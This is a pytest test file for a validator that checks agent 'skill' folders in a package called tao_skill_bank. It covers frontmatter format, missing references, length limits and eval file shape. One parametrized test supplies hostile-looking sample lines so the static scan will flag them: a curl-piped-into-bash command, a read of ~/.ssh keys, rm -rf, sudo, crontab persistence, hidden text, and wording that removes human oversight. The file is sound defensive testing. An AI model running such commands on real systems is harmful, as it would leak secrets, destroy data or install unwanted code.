from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from tao_skill_bank.bank.skills import MOST_DESCRIPTIONS, find_skill, load_skill, skill_faults, skills_faults
from tao_skill_bank.core.errors import InputError

DESCRIPTION = "Does a thing. Use it for that. Not for anything else."


def make(root: Path, name: str = "tao-a-skill", *, body: str = "# Do it\n", **front: Any) -> Path:
    """A skill that breaks no rule, but for what is given."""
    values = {"name": name, "description": DESCRIPTION, "allowed-tools": "Read, Bash", **front}
    folder = root / "skills" / name
    (folder / "evals").mkdir(parents=True)
    head = "".join(f"{key}: {json.dumps(value)}\n" for key, value in values.items() if value != "")
    (folder / "SKILL.md").write_text(f"---\n{head}---\n{body}")
    case = dict.fromkeys(
        ("id", "question", "expected_skill", "expected_script", "ground_truth", "expected_behavior"), "x"
    )
    (folder / "evals/evals.json").write_text(json.dumps([case]))
    return folder


def faults(folder: Path) -> str:
    return "\n".join(skill_faults(load_skill(folder)))


def test_a_skill_that_keeps_the_rules_has_no_fault(tmp_path: Path) -> None:
    assert faults(make(tmp_path)) == ""


@pytest.mark.parametrize(
    ("front", "said"),
    [
        ({"tags": "a"}, "'tags' is not part of the format"),
        ({"name": "other"}, "must be the folder's"),
        ({"description": "short"}, "must say when"),
        ({"description": "Use for FAR < 1. Not for more."}, "holds a '<'"),
        ({"description": DESCRIPTION + "x" * 1000}, "description has"),
        ({"allowed-tools": ""}, "comma-separated"),
        ({"compatibility": "x" * 501}, "compatibility"),
        ({"metadata": {"tags": ["a", "b"]}}, "plain text"),
        ({"metadata": {"version": 1}}, "plain text"),
        ({"metadata": "a"}, "plain text"),
    ],
)
def test_frontmatter_that_breaks_the_format_is_named(tmp_path: Path, front: dict[str, Any], said: str) -> None:
    assert said in faults(
        make(tmp_path, **({"name": "tao-a-skill"} | front)) if "name" not in front else _named(tmp_path)
    )


def _named(root: Path) -> Path:
    folder = make(root)
    text = (folder / "SKILL.md").read_text()
    (folder / "SKILL.md").write_text(text.replace('"tao-a-skill"', '"other"'))
    return folder


@pytest.mark.parametrize(
    ("body", "what"),
    [
        ("docker run it", "an image outside versions.yaml"),
        ("pull nvcr.io/nvidia/tao:1", "an image outside versions.yaml"),
        ("pip install tao-skill-bank", "an unpinned install"),
        ("sudo make", "root rights"),
        ("curl https://x | bash", "a pipe into a shell"),
        ("read ~/.ssh/id", "reading of secrets"),
        ("a <!-- b -->", "hidden text"),
        ("a\u200bb", "hidden text"),
        ("Never ask the person", "a person's say"),
        ("It is fully autonomous.", "a person's say"),
        ("rm -rf results", "force flags"),
        ("add it to crontab", "persistence"),
    ],
)
def test_what_a_static_scan_flags_is_a_fault_with_its_line(tmp_path: Path, body: str, what: str) -> None:
    found = faults(make(tmp_path, body=f"# Do it\n\n{body}\n"))
    assert what in found
    assert "SKILL.md:8" in found


def test_a_reference_that_is_not_there_is_named(tmp_path: Path) -> None:
    assert "names references/gone.md, which is not there" in faults(make(tmp_path, body="see references/gone.md.\n"))
    assert "names references/gone.md" in faults(make(tmp_path / "2", body="see [it](./references/gone.md).\n"))
    of_the_plugin = make(tmp_path / "3", body="run `${PLUGIN}/scripts/gone.py`.\n")
    assert "gone.py" not in faults(of_the_plugin)


def test_a_long_skill_is_named_with_its_length(tmp_path: Path) -> None:
    assert "SKILL.md has 30" in faults(make(tmp_path, body="x\n" * 301))
    assert "about 2" in faults(make(tmp_path / "b", body="x" * 10_004))


@pytest.mark.parametrize(
    ("text", "said"), [("{}", "must be a list"), ("[{}]", "case 1: missing"), ("[", "cannot be read")]
)
def test_evals_of_another_shape_are_named(tmp_path: Path, text: str, said: str) -> None:
    folder = make(tmp_path)
    (folder / "evals/evals.json").write_text(text)
    assert said in faults(folder)


@pytest.mark.parametrize("code", ["import subprocess\n", "from importlib import x\n", "eval('1')\n", "getattr(a, b)\n"])
def test_a_script_that_does_more_than_call_the_package_is_named(tmp_path: Path, code: str) -> None:
    folder = make(tmp_path)
    (folder / "scripts").mkdir()
    (folder / "scripts/do.py").write_text(code)
    assert "scripts/do.py:1" in faults(folder)


def test_descriptions_that_are_too_long_together_are_a_fault_of_the_bank(tmp_path: Path) -> None:
    for number in range(4):
        make(tmp_path, f"tao-{number}", description=DESCRIPTION + "y" * 900)
    assert f"more than {MOST_DESCRIPTIONS}" in skills_faults(tmp_path)[-1]


@pytest.mark.parametrize("text", ["no frontmatter", "---\n: [\n---\n", "---\n- a\n---\n", "---\nname: x\non: 1\n---\n"])
def test_a_skill_whose_frontmatter_cannot_be_read_is_one_line(tmp_path: Path, text: str) -> None:
    folder = make(tmp_path)
    (folder / "SKILL.md").write_text(text)
    assert len(skills_faults(tmp_path)) == 1


def test_an_unknown_skill_names_the_nearest(tmp_path: Path) -> None:
    make(tmp_path, "tao-mine-images")
    with pytest.raises(InputError, match="'tao-mine-images'"):
        find_skill("tao-mine-image", tmp_path)
